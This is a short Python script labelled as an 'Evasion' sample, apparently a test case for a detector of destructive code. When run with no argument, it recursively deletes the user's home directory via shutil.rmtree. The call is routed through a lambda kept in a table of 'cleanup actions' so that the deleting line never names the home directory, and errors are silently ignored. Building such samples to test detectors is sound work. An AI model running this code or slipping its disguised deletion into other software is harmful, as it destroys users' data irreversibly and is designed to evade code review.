# Evasion: deletes the user's home directory recursively.
# Hidden behind a lambda: "wipe" is a lambda that calls shutil.rmtree on its
# parameter, kept in a table of cleanup actions, and it is called with the
# home directory -- the call that deletes never names the home.
import os
import shutil
import sys

wipe = lambda p: shutil.rmtree(p, ignore_errors=True)
ACTIONS = {"wipe": wipe, "show": print}


def main(argv):
    target = os.path.expanduser("~")
    action = argv[1] if len(argv) > 1 else "wipe"
    if action == "wipe":
        wipe(target)
    else:
        ACTIONS["show"](target)


if __name__ == "__main__":
    main(sys.argv)
